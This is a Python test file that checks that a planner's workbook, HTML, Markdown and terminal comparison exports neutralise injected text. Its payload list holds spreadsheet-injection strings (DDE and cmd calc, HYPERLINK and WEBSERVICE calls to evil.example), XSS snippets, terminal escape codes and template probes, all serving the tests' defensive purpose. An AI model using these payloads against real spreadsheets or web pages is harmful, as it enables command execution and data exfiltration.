"""No text of a run becomes a formula, a link or markup: 25 payloads in 7 places of every file and of the terminal."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import openpyxl
import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from planner.comparison import compare
from planner.documents.safe_text import plain
from tests.planner.comparison.made import (
    comparison_html,
    comparison_markdown,
    comparison_view,
    comparison_workbook,
    loaded,
    order,
)

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    '"=1+1"',
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "a;=1+1",
    "line\n=1+1",
    "http://evil.example/",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<r><t>=1+1</t></r>",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "a | b `c` **d** <b>e</b> &lt;i&gt; [bold red]f[/] &P&D",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link",
    "\u202egpj.exe \u200b{{7*7}} ${7*7}",
)
TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "div", "table", "thead", "tbody", "tr", "th", "td",
    "b", "span", "p", "ul", "li", "br", "details", "summary", "footer", "header", "main", "nav", "a", "section",
    "h3", "dl", "dt", "dd", "caption", "noscript", "script", "i",
}  # fmt: skip
SHEETS = r"(Runs|Money|Service|Orders|Checks|'Key figures'|'Cash by year'|'Chart data')!"
CELL = r"\$?[A-Z]{1,2}\$?\d+"
OURS = re.compile(
    rf"=({SHEETS})?{CELL}([-/](ABS\()?{CELL}\)?)?$|=SUM\({SHEETS}{CELL}:{CELL}\)$"
    r"|=\$C\$\d+\*MAX\(\$C\$\d+,ABS\(D\d+\)\)$|=IF\(ABS\(E\d+\)<=F\d+,1,0\)$|=IF\(MIN\(G\d+:G\d+\)=1,"
)
"""Every formula that we write: differences, shares, links, and the checks of their sums."""


class Seen(HTMLParser):
    """The tags, attributes and text of a document."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.texts = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.texts.append(data)


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    folder = tmp_path_factory.mktemp("safe")
    sites = "site,power_mw,pue,electricity_usd_per_mwh,note\nhome,1,1,50,{}\n"
    return [loaded(folder, name, changes={"sites": sites.format(name)}) for name in ("first", "other")]


def poisoned(base, payload):
    """Two runs with the payload as run, case, offer, workload, programme and route, key figure, and note."""
    first, other = base

    def infect(one, text, tables):
        settings = replace(one.case.settings, name=text)
        sites = (replace(one.case.sites[0], note=text),)
        offers = (replace(one.case.offers[0], offer=text),)
        read = replace(one.read, case=replace(one.case, settings=settings, sites=sites, offers=offers))
        made = {
            name: type(one.tables[name])(name, table.columns, tables.get(name, table.rows))
            for name, table in one.tables.items()
        }
        return type(one)(one.manifest, made, read, text)

    rows = {
        "orders": (order("2027", 8, payload),),
        "tape_outs": ((payload, payload, "2027", "2028", "2029"),),
        "service": ((payload, "2027", 10.0, 9.0, 1.0),),
        "key_figures": (("net_present_cost", 100.0, "USD million", ""), (payload, 2.0, payload, payload)),
    }
    less = {"service": ((payload, "2027", 10.0, 10.0, 0.0),), "key_figures": ((payload, 1.0, payload, ""),)}
    return compare([infect(first, "plain", less), infect(other, payload, rows)])


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_text_becomes_a_formula_or_link_in_the_workbook(base, payload):
    book = openpyxl.load_workbook(io.BytesIO(comparison_workbook(poisoned(base, payload))))
    found = set()
    for sheet in book:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert OURS.match(str(cell.value)), f"{sheet.title}!{cell.coordinate}: {cell.value}"
                elif cell.value is not None:
                    found.add((sheet.title, str(cell.value)))
    assert not book._external_links
    shown = plain(payload)
    for sheet in ("Decisions", "Orders", "Service", "Key figures", "Inputs", "Runs"):
        assert (sheet, shown) in found, f"the text is lost on {sheet}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_text_becomes_markup_in_the_report(base, payload):
    text = comparison_html(poisoned(base, payload))
    seen = Seen()
    seen.feed(text)
    assert seen.tags <= TAGS
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert not {"src", "srcset", "action", "data"} & seen.attributes
    assert set(re.findall(r'href="(.)', text)) <= {"#"}
    assert "default-src &#x27;none&#x27;" in text
    told = "".join(seen.texts)
    assert told.count(plain(payload)) >= 6
    assert plain(payload) == payload or payload not in text


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_text_becomes_markup_in_markdown(base, payload):
    text = comparison_markdown(poisoned(base, payload))
    drawn = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    seen = Seen()
    seen.feed(drawn)
    assert seen.tags <= {"h1", "h2", "h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "strong", "br",
                         "blockquote"}  # fmt: skip
    assert seen.attributes <= {"style"}
    assert "".join(seen.texts).count(plain(payload).strip()) >= 4
    # A bare address must not be turned into a link either.
    assert "http://" not in text
    columns = {line.count(" | ") for line in text.splitlines() if line.startswith("| **order ")}
    assert columns == {1}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("width", [80, 120])
def test_no_text_becomes_markup_or_a_control_code_in_the_terminal(base, payload, width):
    console = Console(width=width, file=io.StringIO(), force_terminal=False)
    console.print(comparison_view(poisoned(base, payload), width))
    text = console.file.getvalue()
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert max(map(len, text.splitlines())) <= width
    squeezed = "".join(text.split())
    assert "".join(plain(payload).split()) in squeezed


def test_a_text_longer_than_a_cell_is_cut_and_not_lost(base):
    book = openpyxl.load_workbook(io.BytesIO(comparison_workbook(poisoned(base, "x" * 40_000))))
    assert any(str(cell.value).endswith("…") for row in book["Orders"].iter_rows() for cell in row)
